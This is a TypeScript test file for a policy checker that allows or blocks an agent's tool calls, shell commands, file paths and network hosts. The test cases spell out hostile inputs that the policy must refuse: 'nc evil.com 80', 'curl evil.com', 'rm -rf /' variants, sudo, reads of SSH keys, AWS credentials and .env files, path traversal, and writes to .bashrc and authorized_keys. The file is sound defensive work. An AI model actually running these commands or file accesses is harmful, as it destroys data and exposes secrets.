import { describe, expect, it } from 'vitest';
import type { CapabilitiesConfig, CapabilityOperation } from './capability-types.js';
import { checkCapabilities } from './check-capabilities.js';
import { compileCapabilities } from './compile-capabilities.js';

const OPTIONS = { homeDir: '/home/u', cwd: '/work/app' };
const TOOL = 'shell';

function check(config: CapabilitiesConfig, operation: Omit<CapabilityOperation, 'tool'> & { tool?: string }) {
  return checkCapabilities(compileCapabilities(config, OPTIONS), { tool: TOOL, ...operation });
}

function run(...commands: string[]) {
  return { commands: commands.map((command) => command.split(' ')) };
}

function read(path: string) {
  return { paths: [{ mode: 'r' as const, path }] };
}

function write(path: string) {
  return { paths: [{ mode: 'w' as const, path }] };
}

describe('checkCapabilities', () => {
  describe('without a capabilities section', () => {
    it('should allow an ordinary call', () => {
      expect(check({}, { tool: 'send_email', ...run('git status'), hosts: ['evil.com'] })).toBeUndefined();
    });

    it('should still apply the built-in danger list', () => {
      expect(check({}, run('sudo ls'))).toMatchObject({ ruleId: 'capabilities.danger', pattern: 'cmd:sudo' });
    });
  });

  describe('tool patterns', () => {
    it.each([
      [['tool:read_*'], 'read_inbox', undefined],
      [['tool:read_*'], 'send_email', 'capabilities.allow'],
      [['tool:*'], 'mcp:github:create_issue', undefined],
      [['tool:mcp:*'], 'mcp:github:create_issue', undefined],
      [['tool:mcp_?'], 'mcp_a', undefined],
      [['tool:mcp_?'], 'mcp_ab', 'capabilities.allow'],
      [['tool:constructor'], '__proto__', 'capabilities.allow'],
    ])('should check allow %j against tool %j', (allow, tool, ruleId) => {
      expect(check({ allow }, { tool })?.ruleId).toBe(ruleId);
    });

    it('should report the tool that is not in the allow-list', () => {
      expect(check({ allow: ['tool:read_*'] }, { tool: 'send_email' })).toEqual({
        ruleId: 'capabilities.allow',
        subject: 'tool:send_email',
        reason: 'capability not in the allow-list',
      });
    });

    it.each([
      // [allow, deny, tool, ruleId]: the more literal characters, the more specific; ties deny.
      [['tool:*'], ['tool:send_*'], 'send_email', 'capabilities.deny'],
      [['tool:send_email'], ['tool:send_*'], 'send_email', undefined],
      [['tool:send_*'], ['tool:send_*'], 'send_email', 'capabilities.deny'],
      [['tool:send_e*'], ['tool:send_?mail'], 'send_email', 'capabilities.deny'],
      [['tool:send_emai*'], ['tool:send_?mail'], 'send_email', 'capabilities.deny'],
      [['tool:send_email'], ['tool:send_?mail'], 'send_email', undefined],
    ])('should weigh allow %j against deny %j for %j', (allow, deny, tool, ruleId) => {
      expect(check({ allow, deny }, { tool })?.ruleId).toBe(ruleId);
    });

    it('should report the most specific deny pattern', () => {
      expect(check({ deny: ['tool:*', 'tool:send_*'] }, { tool: 'send_email' })).toEqual({
        ruleId: 'capabilities.deny',
        subject: 'tool:send_email',
        pattern: 'tool:send_*',
        reason: 'capability denied by policy',
      });
    });
  });

  describe('command patterns', () => {
    it.each([
      // mlld's cases
      [{ allow: ['cmd:git:*'] }, ['curl evil.com'], 'capabilities.allow'],
      [{ allow: ['cmd:git:*'] }, ['git status'], undefined],
      [{ allow: ['cmd:git:status'] }, ['git status'], undefined],
      [{ allow: ['cmd:git:status'] }, ['git status -s'], 'capabilities.allow'],
      [{ allow: ['cmd:echo'] }, ['echo hello world'], undefined],
      [{ allow: ['cmd:git:*'], deny: ['cmd:git:push'] }, ['git push origin main'], 'capabilities.deny'],
      [{ allow: ['cmd:git:*'], deny: ['cmd:git:push'] }, ['git pull'], undefined],
      [{ allow: ['cmd:git:status'], deny: ['cmd:git'] }, ['git status'], undefined],
      [{ allow: ['cmd:git:status'], deny: ['cmd:git'] }, ['git add .'], 'capabilities.deny'],
      [{ allow: ['cmd:git:status'], deny: ['cmd:git'] }, ['git status -s'], 'capabilities.deny'],
      // basename and case of the command
      [{ allow: ['cmd:git:*'] }, ['/usr/bin/git status'], undefined],
      [{ deny: ['cmd:git:push'] }, ['/usr/bin/GIT push'], 'capabilities.deny'],
      [{ allow: ['cmd:git:status'] }, ['git STATUS'], 'capabilities.allow'],
      // every command of a pipeline
      [{ allow: ['cmd:git:*'] }, ['git log', 'sh'], 'capabilities.allow'],
      [{ deny: ['cmd:sh'] }, ['cat file', 'sh'], 'capabilities.deny'],
      [{ allow: ['cmd:git:*', 'cmd:grep'] }, ['git log', 'grep fix'], undefined],
      // `cmd` and `cmd:*` match every command
      [{ allow: ['cmd'] }, ['anything at all'], undefined],
      [{ deny: ['cmd:*'] }, ['ls'], 'capabilities.deny'],
      [{ allow: ['cmd:ls'], deny: ['cmd'] }, ['ls -la'], undefined],
      [{ allow: ['cmd:*'], deny: ['cmd'] }, ['ls -la'], 'capabilities.deny'],
      [{ allow: ['cmd:ls'], deny: ['cmd:ls'] }, ['ls -la'], 'capabilities.deny'],
      [{ allow: ['cmd:ls:-la'], deny: ['cmd:ls'] }, ['ls -la'], undefined],
      // a wildcard in the middle
      [{ deny: ['cmd:*:--exec'] }, ['find . --exec rm'], 'capabilities.deny'],
      [{ allow: ['cmd:npm:run:*:--silent'] }, ['npm run build --silent'], undefined],
      [{ allow: ['cmd:npm:run:*:--silent'] }, ['npm run build --silent --x'], 'capabilities.allow'],
    ])('should decide %j for %j', (config, commands, ruleId) => {
      expect(check(config, run(...commands))?.ruleId).toBe(ruleId);
    });

    it('should name the command and the deny pattern', () => {
      expect(check({ allow: ['cmd:git:*'], deny: ['cmd:git:push'] }, run('git push origin main'))).toEqual({
        ruleId: 'capabilities.deny',
        subject: 'cmd:git push origin main',
        pattern: 'cmd:git:push',
        reason: 'capability denied by policy',
      });
    });

    it('should check an empty command like any other', () => {
      expect(check({ allow: ['cmd:git:*'] }, { commands: [[]] })?.ruleId).toBe('capabilities.allow');
      expect(check({ deny: ['cmd'] }, { commands: [[]] })?.ruleId).toBe('capabilities.deny');
    });
  });

  describe('the danger gate', () => {
    it('should refuse a force push that the allow-list permits', () => {
      expect(check({ allow: ['cmd:git:*'] }, run('git push --force'))).toEqual({
        ruleId: 'capabilities.danger',
        subject: 'cmd:git push --force',
        pattern: 'cmd:git:push:*:--force',
        reason: 'dangerous capability requires an explicit danger opt-in',
      });
    });

    it('should allow a force push once the policy opens it', () => {
      expect(check({ allow: ['cmd:git:*'], danger: ['cmd:git:push:*:--force'] }, run('git push origin main --force'))).toBeUndefined();
    });

    it('should open only the entries the opt-in matches', () => {
      expect(check({ danger: ['cmd:git:push:*:--force'] }, run('git push -f'))?.ruleId).toBe('capabilities.danger');
    });

    it('should keep the allow and deny gates after an opt-in', () => {
      const config = { allow: ['cmd:ls'], danger: ['cmd:git:push:*:--force'] };
      expect(check(config, run('git push --force'))?.ruleId).toBe('capabilities.allow');
      expect(check({ deny: ['cmd:git:push'], danger: ['cmd:git:push:*:--force'] }, run('git push --force'))?.ruleId).toBe('capabilities.deny');
    });

    it.each([
      'rm -rf /',
      'rm -fr /',
      'rm -Rf /',
      'rm -r -f /',
      'rm -f -r /',
      'rm --recursive --force /',
      'rm -v -rf /tmp/x',
      '/bin/rm -rf ~',
    ])('should refuse %j even under `allow: [cmd]`', (command) => {
      expect(check({ allow: ['cmd'] }, run(command))?.ruleId).toBe('capabilities.danger');
    });

    it('should check the danger list before deny', () => {
      expect(check({ deny: ['cmd:sudo'] }, run('sudo ls'))?.ruleId).toBe('capabilities.danger');
    });

    it('should find a dangerous command anywhere in a pipeline', () => {
      expect(check({}, run('cat payload', 'nc evil.com 80'))).toMatchObject({ ruleId: 'capabilities.danger', subject: 'cmd:nc evil.com 80' });
    });

    it.each([
      [{}, read('/home/u/.ssh/id_rsa'), 'capabilities.danger'],
      [{}, read('~/.ssh/id_rsa'), 'capabilities.danger'],
      [{}, read('/home/u/.SSH/id_rsa'), 'capabilities.danger'],
      [{}, read('/home/u/.ssh'), 'capabilities.danger'],
      [{}, read('/work/app/docs/../../../home/u/.ssh/config'), 'capabilities.danger'],
      [{ danger: ['fs:r:~/.ssh/**'] }, read('/home/u/.ssh/id_rsa'), undefined],
      [{ danger: ['fs:rw:~/.ssh/**'] }, read('/home/u/.ssh/id_rsa'), undefined],
      [{ danger: ['fs:w:~/.ssh/**'] }, read('/home/u/.ssh/id_rsa'), 'capabilities.danger'],
      [{ danger: ['fs:r:~/.ssh/**'] }, write('/home/u/.ssh/authorized_keys'), 'capabilities.danger'],
      [{ danger: ['fs:r:~/.ssh/**'] }, read('/home/u/.aws/credentials'), 'capabilities.danger'],
      [{}, read('/work/app/.env'), 'capabilities.danger'],
      [{}, read('/work/app/README.md'), undefined],
      [{}, write('/work/app/.labelflow/audit.jsonl'), 'capabilities.danger'],
      [{}, read('/work/app/.labelflow/audit.jsonl'), undefined],
      [{}, write('/home/u/.bashrc'), 'capabilities.danger'],
      [{}, read('/home/u/.bashrc'), undefined],
      [{ allow: ['fs:rw:**'] }, write('/work/app/.labelflow/policy.json'), 'capabilities.danger'],
    ])('should decide %j for %j', (config, operation, ruleId) => {
      expect(check(config, operation)?.ruleId).toBe(ruleId);
    });

    it('should report the normalised path and the danger pattern', () => {
      expect(check({}, read('~/.ssh/id_rsa'))).toEqual({
        ruleId: 'capabilities.danger',
        subject: 'fs:r:/home/u/.ssh/id_rsa',
        pattern: 'fs:r:~/.ssh/**',
        reason: 'dangerous capability requires an explicit danger opt-in',
      });
    });
  });

  describe('filesystem patterns', () => {
    it.each([
      [{ allow: ['fs:r:./src/**'] }, read('/work/app/src/index.ts'), undefined],
      [{ allow: ['fs:r:./src/**'] }, read('/work/app/src'), undefined],
      [{ allow: ['fs:r:./src/**'] }, read('/work/app/package.json'), 'capabilities.allow'],
      [{ allow: ['fs:r:./src/**'] }, read('/work/app/src/../package.json'), 'capabilities.allow'],
      [{ allow: ['fs:r:./src/**'] }, read('src/index.ts'), undefined],
      [{ allow: ['fs:r:./src/**'] }, write('/work/app/src/index.ts'), undefined],
      [{ allow: ['fs:w:./tmp/**'] }, write('/work/app/tmp/out.txt'), undefined],
      [{ allow: ['fs:w:./tmp/**'] }, write('/work/app/out.txt'), 'capabilities.allow'],
      [{ allow: ['fs:w:./tmp/**'] }, read('/work/app/tmp/out.txt'), undefined],
      [{ allow: ['fs:w:./tmp/**'] }, read('/work/app/README.md'), 'capabilities.allow'],
      [{ allow: ['fs:r:./src/**', 'fs:w:./tmp/**'] }, write('/work/app/src/index.ts'), 'capabilities.allow'],
      [{ fs: { read: ['./src/**'] } }, read('/work/app/lib/x.ts'), 'capabilities.allow'],
      [{ fs: { write: ['/tmp/**'] } }, read('/tmp/x'), undefined],
      [{ allow: ['fs:rw:~/notes/**'] }, write('/home/u/notes/today.md'), undefined],
      [{ allow: ['fs:r:**'] }, read('/etc/hosts'), undefined],
      [{ allow: ['fs:r:*'] }, read('/etc/hosts'), undefined],
      [{ deny: ['fs:r:/etc/**'] }, read('/etc/hosts'), 'capabilities.deny'],
      [{ deny: ['fs:r:/etc/**'] }, write('/etc/hosts'), undefined],
      [{ deny: ['fs:w:/etc/**'] }, read('/etc/hosts'), undefined],
      [{ deny: ['fs:rw:/etc/**'] }, write('/etc/hosts'), 'capabilities.deny'],
      [{ deny: ['fs:r:./secrets/**'] }, read('/work/app/SECRETS/key'), 'capabilities.deny'],
      [{ allow: ['fs:r:/work/**'], deny: ['fs:r:/work/app/private/**'] }, read('/work/app/private/x'), 'capabilities.deny'],
      [{ allow: ['fs:r:/work/app/private/ok.txt'], deny: ['fs:r:/work/app/private/**'] }, read('/work/app/private/ok.txt'), undefined],
      [{ allow: ['fs:r:/work/app/**'], deny: ['fs:r:/work/app/*'] }, read('/work/app/x'), 'capabilities.deny'],
    ])('should decide %j for %j', (config, operation, ruleId) => {
      expect(check(config, operation)?.ruleId).toBe(ruleId);
    });

    it('should check a path with an unknown mode as both a read and a write', () => {
      const operation = { paths: [{ mode: 'x' as 'r', path: '/etc/hosts' }] };
      expect(check({ deny: ['fs:w:/etc/**'] }, operation)).toMatchObject({ ruleId: 'capabilities.deny', subject: 'fs:w:/etc/hosts' });
    });
  });

  describe('network hosts', () => {
    it.each([
      [{ allow: ['api.github.com'] }, 'api.github.com', undefined],
      [{ allow: ['api.github.com'] }, 'API.GitHub.com.', undefined],
      [{ allow: ['api.github.com'] }, 'evil.com', 'network.allow'],
      [{ allow: ['*.example.com'] }, 'a.b.example.com', undefined],
      [{ allow: ['*.example.com'] }, 'example.com', 'network.allow'],
      [{ allow: ['*'] }, 'anything.io', undefined],
      [{ deny: ['evil.com'] }, 'evil.com', 'network.deny'],
      [{ deny: ['evil.com'] }, 'evil.com:8080', 'network.deny'],
      [{ deny: ['evil.com'] }, 'good.com', undefined],
      [{ deny: ['evil.com'] }, 'evil.com/x', 'network.deny'],
      [{ deny: ['*'], allow: ['api.github.com'] }, 'api.github.com', undefined],
      [{ deny: ['*'], allow: ['api.github.com'] }, 'github.com', 'network.deny'],
      [{ deny: ['*.example.com'], allow: ['*.example.com'] }, 'a.example.com', 'network.deny'],
      [{ deny: ['*.example.com'], allow: ['api.example.com'] }, 'api.example.com', undefined],
    ])('should decide network %j for host %j', (network, host, ruleId) => {
      expect(check({ network }, { hosts: [host] })?.ruleId).toBe(ruleId);
    });

    it('should report the host and the deny pattern', () => {
      expect(check({ network: { deny: ['*.evil.com'] } }, { hosts: ['x.EVIL.com'] })).toEqual({
        ruleId: 'network.deny',
        subject: 'host:x.evil.com',
        pattern: '*.evil.com',
        reason: 'network host denied by policy',
      });
    });

    it('should report a host that is not in the allow-list', () => {
      expect(check({ network: { allow: ['api.github.com'] } }, { hosts: ['evil.com'] })).toEqual({
        ruleId: 'network.allow',
        subject: 'host:evil.com',
        reason: 'network host not in the allow-list',
      });
    });
  });

  describe('dimensions', () => {
    it.each([
      [{ allow: ['cmd:git:*'] }, { tool: 'send_email' }],
      [{ allow: ['cmd:git:*'] }, read('/etc/hosts')],
      [{ allow: ['tool:shell'] }, run('curl example.com')],
      [{ allow: ['fs:r:./src/**'] }, run('ls')],
      [{ allow: ['tool:*'] }, { hosts: ['evil.com'] }],
      [{ network: { allow: ['api.github.com'] } }, read('/etc/hosts')],
      [{ fs: { read: ['./src/**'] } }, { tool: 'anything' }],
    ])('should leave a dimension unconstrained when %j has no pattern for it', (config, operation) => {
      expect(check(config, operation)).toBeUndefined();
    });

    it('should leave writes unconstrained by an fs:r allow', () => {
      expect(check({ allow: ['fs:r:./src/**'] }, write('/etc/hosts'))).toBeUndefined();
    });
  });

  describe('order of the gates', () => {
    it('should report deny before allow, across subjects', () => {
      const config = { allow: ['tool:read_*'], deny: ['cmd:curl'] };
      expect(check(config, { tool: 'send_email', ...run('curl x') })?.ruleId).toBe('capabilities.deny');
    });

    it('should report danger before deny, across subjects', () => {
      const config = { deny: ['tool:shell'] };
      expect(check(config, run('sudo ls'))?.ruleId).toBe('capabilities.danger');
    });

    it('should report the tool before its commands within a gate', () => {
      expect(check({ deny: ['tool:shell', 'cmd:ls'] }, run('ls'))?.subject).toBe('tool:shell');
    });
  });

  describe('invalid patterns', () => {
    it('should deny everything when a deny pattern does not parse', () => {
      expect(check({ deny: ['cmd:git::push'] }, run('ls'))).toMatchObject({ ruleId: 'capabilities.deny', pattern: 'cmd:git::push' });
      expect(check({ allow: ['tool:*'], deny: ['nonsense'] }, { tool: 'read_inbox' })).toMatchObject({ ruleId: 'capabilities.deny', pattern: 'nonsense' });
    });

    it('should let an invalid allow pattern match nothing yet constrain its dimension', () => {
      expect(check({ allow: ['cmd:git::*'] }, run('git status'))?.ruleId).toBe('capabilities.allow');
      expect(check({ allow: ['cmd:git::*'] }, { tool: 'anything' })).toBeUndefined();
      expect(check({ allow: ['fs:x:/tmp/**'] }, write('/tmp/x'))?.ruleId).toBe('capabilities.allow');
    });

    it('should let an invalid danger opt-in open nothing', () => {
      expect(check({ danger: ['cmd:sudo::'] }, run('sudo ls'))?.ruleId).toBe('capabilities.danger');
    });

    it('should deny every host when a network deny pattern does not parse', () => {
      expect(check({ network: { deny: ['Evil.com'] } }, { hosts: ['good.com'] })).toMatchObject({ ruleId: 'network.deny', pattern: 'Evil.com' });
    });

    it('should deny a host that does not normalise whenever hosts are denied', () => {
      expect(check({ network: { deny: ['evil.com'] } }, { hosts: ['evil.com%2e'] })?.ruleId).toBe('network.deny');
      expect(check({ network: { allow: ['*'] } }, { hosts: ['evil.com%2e'] })).toBeUndefined();
      expect(check({ network: { allow: ['good.com'] } }, { hosts: ['good.com%2e'] })?.ruleId).toBe('network.allow');
    });
  });
});
